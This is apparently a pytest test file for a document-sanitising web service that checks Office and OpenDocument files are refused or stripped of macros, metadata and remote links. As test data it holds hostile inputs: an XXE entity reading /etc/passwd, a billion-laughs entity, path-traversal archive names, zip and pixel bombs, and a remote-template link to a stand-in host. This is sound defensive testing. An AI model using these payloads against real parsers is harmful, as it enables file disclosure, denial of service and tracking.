"""Office documents: no macros, no bombs, no strangers' addresses that would be asked; names and sittings are gone."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from tests.base.files import letters, pictures
from tests.base.files.plants import NAME, TEXT
from webapp.base.files.cleaning import Cleaned, clean
from webapp.base.files.kinds import recognise
from webapp.base.files.refusals import Refusal, Refused
from webapp.base.files.traces import Trace

MIB = 2**20
BILLION_LAUGHS = '<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>'
FETCHES = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


def refusal_of(path: Path) -> Refusal:
    with pytest.raises(Refused) as refused:
        clean(path, path.with_name("bersih"), recognise(path))
    assert not path.with_name("bersih").exists()
    return refused.value.reason


def cleaned(path: Path) -> tuple[zipfile.ZipFile, Cleaned]:
    target = path.with_name("bersih")
    result = clean(path, target, recognise(path))
    return zipfile.ZipFile(target), result


def packed(path: Path, source: Path, name: str, data: bytes) -> Path:
    """A copy with one more part, packed."""
    path.write_bytes(source.read_bytes())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return path


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": "x"},
        {"word/activeX/activeX1.xml": "<a/>"},
        {"[Content_Types].xml": "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"},
        {"word/media/pasang.exe": "MZ"},
        {"word/media/lembar.tif": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99)},
    ],
)
def test_macros_and_programs_are_refused(corpus: dict[str, Path], tmp_path: Path, parts: letters.Parts) -> None:
    document = letters.repacked(tmp_path / "surat.docm", corpus["surat.docx"], parts)
    assert refusal_of(document) is Refusal.ACTIVE_CONTENT


@pytest.mark.parametrize("part", ["Basic/Standard/Module1.xml", "Scripts/python/a.py"])
def test_macros_of_opendocument_are_refused(corpus: dict[str, Path], tmp_path: Path, part: str) -> None:
    document = letters.repacked(tmp_path / "surat.odt", corpus["surat.odt"], {part: "<a/>"})
    assert refusal_of(document) is Refusal.ACTIVE_CONTENT


def test_a_part_that_grows_a_thousandfold_is_a_bomb(corpus: dict[str, Path], tmp_path: Path) -> None:
    assert refusal_of(packed(tmp_path / "a.docx", corpus["surat.docx"], "word/a.xml", bytes(50 * MIB))) is Refusal.BOMB


def test_too_many_parts_are_a_bomb(corpus: dict[str, Path], tmp_path: Path) -> None:
    many: letters.Parts = {f"word/{number}.xml": "<a/>" for number in range(4001)}
    assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], many)) is Refusal.BOMB


def test_an_archive_within_is_a_bomb(corpus: dict[str, Path], tmp_path: Path) -> None:
    inner: letters.Parts = {"word/media/a.tif": pictures.zip_bytes("x")}
    assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], inner)) is Refusal.BOMB


def test_a_part_that_lies_about_its_size_is_not_believed(corpus: dict[str, Path], tmp_path: Path) -> None:
    path = packed(tmp_path / "a.docx", corpus["surat.docx"], "word/header9.xml", bytes(50 * MIB))
    data = path.read_bytes()
    path.write_bytes(data.replace(struct.pack("<I", 50 * MIB), struct.pack("<I", 1000)))
    assert refusal_of(path) is Refusal.BROKEN


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, FETCHES])
def test_entities_are_a_bomb(corpus: dict[str, Path], tmp_path: Path, xml: str) -> None:
    document = letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], {"word/document.xml": xml})
    assert refusal_of(document) is Refusal.BOMB


@pytest.mark.parametrize("name", ["../../keluar.xml", "/etc/a.xml", "word\\a.xml", "word/../../a.xml", "a\x01.xml"])
def test_parts_with_strange_names_are_refused(corpus: dict[str, Path], tmp_path: Path, name: str) -> None:
    assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], {name: "<a/>"})) is Refusal.BROKEN


def test_two_parts_of_one_name_are_refused(corpus: dict[str, Path], tmp_path: Path) -> None:
    path = packed(tmp_path / "a.docx", corpus["surat.docx"], "WORD/document.xml", b"<a/>")
    assert refusal_of(path) is Refusal.BROKEN


def test_a_document_under_a_password_is_refused(corpus: dict[str, Path], tmp_path: Path) -> None:
    manifest = '<m:manifest xmlns:m="urn:m"><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>'
    locked = letters.repacked(tmp_path / "a.odt", corpus["surat.odt"], {"META-INF/manifest.xml": manifest})
    assert refusal_of(locked) is Refusal.ENCRYPTED
    zipped = tmp_path / "b.docx"
    data = bytearray(corpus["surat.docx"].read_bytes())
    index = data.index(b"PK\x01\x02")
    data[index + 8] |= 1
    zipped.write_bytes(data)
    with pytest.raises(Refused) as refused:
        recognise(zipped)
    assert refused.value.reason is Refusal.ENCRYPTED


def test_links_that_a_person_follows_stay_and_others_lead_nowhere(corpus: dict[str, Path], tmp_path: Path) -> None:
    path = tmp_path / "surat.docx"
    path.write_bytes(corpus["surat.docx"].read_bytes())
    archive, result = cleaned(path)
    relations = archive.read("word/_rels/document.xml.rels").decode()
    assert 'Target="https://berita.example/jalan"' in relations
    assert 'Target="about:blank"' in relations
    assert "file:" not in relations
    assert "customXml" not in relations
    assert Trace.LINKS in result.removed


def test_words_comments_and_changes_stay_without_their_authors(corpus: dict[str, Path], tmp_path: Path) -> None:
    path = tmp_path / "surat.docx"
    path.write_bytes(corpus["surat.docx"].read_bytes())
    archive, _ = cleaned(path)
    text = archive.read("word/document.xml").decode()
    assert f'<w:t xml:space="preserve">{TEXT} </w:t>' in text
    assert '<w:ins w:id="1" w:author="">' in text
    assert "rsid" not in text
    assert 'mc:Ignorable="w14"' in text
    assert 'xmlns:w14="urn:w14"' in text, "a prefix that a value names must stay declared"
    assert "Mohon dilihat" in archive.read("word/comments.xml").decode()


def test_what_is_left_out_is_named_nowhere(corpus: dict[str, Path], tmp_path: Path) -> None:
    for name in ("surat.docx", "daftar.xlsx", "surat.odt"):
        path = tmp_path / name
        path.write_bytes(corpus[name].read_bytes())
        archive, _ = cleaned(path)
        everything = b"".join(archive.read(part) for part in archive.namelist() if part.endswith((".xml", ".rels")))
        for gone in (b"docProps", b"customXml/", b"printerSettings1", b"meta.xml", b"Thumbnails", b"people.xml"):
            assert gone not in everything


def test_a_table_keeps_its_name_and_a_date_in_the_text_stays(corpus: dict[str, Path], tmp_path: Path) -> None:
    sheet, letter = tmp_path / "daftar.xlsx", tmp_path / "surat.odt"
    sheet.write_bytes(corpus["daftar.xlsx"].read_bytes())
    letter.write_bytes(corpus["surat.odt"].read_bytes())
    assert b'displayName="Jalan"' in cleaned(sheet)[0].read("xl/tables/table1.xml")
    content = cleaned(letter)[0].read("content.xml").decode()
    assert "<text:date>2 November 2026</text:date>" in content
    assert 'xlink:href="https://berita.example/jalan"' in content
    assert NAME not in content


def test_opendocument_begins_with_its_plain_type(corpus: dict[str, Path], tmp_path: Path) -> None:
    path = tmp_path / "surat.odt"
    path.write_bytes(corpus["surat.odt"].read_bytes())
    archive, _ = cleaned(path)
    first = archive.infolist()[0]
    assert (first.filename, first.compress_type, first.header_offset) == ("mimetype", zipfile.ZIP_STORED, 0)


def test_a_picture_that_we_do_not_look_into_makes_it_not_complete(corpus: dict[str, Path], tmp_path: Path) -> None:
    drawn = letters.repacked(
        tmp_path / "a.docx", corpus["surat.docx"], {"word/media/gambar.emf": b"\1\0\0\0" + bytes(99)}
    )
    archive, result = cleaned(drawn)
    assert not result.complete
    assert "word/media/gambar.emf" in archive.namelist()


def test_a_broken_photo_within_makes_it_broken(corpus: dict[str, Path], tmp_path: Path) -> None:
    broken: letters.Parts = {"word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + bytes(99)}
    assert refusal_of(letters.repacked(tmp_path / "a.docx", corpus["surat.docx"], broken)) is Refusal.BROKEN


def test_relations_under_a_name_in_capitals_ask_nobody(corpus: dict[str, Path], tmp_path: Path) -> None:
    name = "word/_rels/comments.xml.RELS"
    remote = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://pengintai.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    archive, result = cleaned(letters.repacked(tmp_path / "surat.docx", corpus["surat.docx"], {name: remote}))
    assert b"pengintai" not in archive.read(name)
    assert Trace.LINKS in result.removed


def test_many_pictures_that_cost_nothing_to_send_are_refused_before_they_cost_a_minute(
    corpus: dict[str, Path], tmp_path: Path
) -> None:
    picture, path = BytesIO(), tmp_path / "bom.docx"
    Image.new("RGB", (8000, 8000)).save(picture, "WEBP", quality=1)
    path.write_bytes(corpus["surat.docx"].read_bytes())
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(12):
            archive.writestr(f"word/media/bom{number}.webp", picture.getvalue())
    assert path.stat().st_size < 2 * MIB
    assert refusal_of(path) is Refusal.TOO_MANY_PIXELS
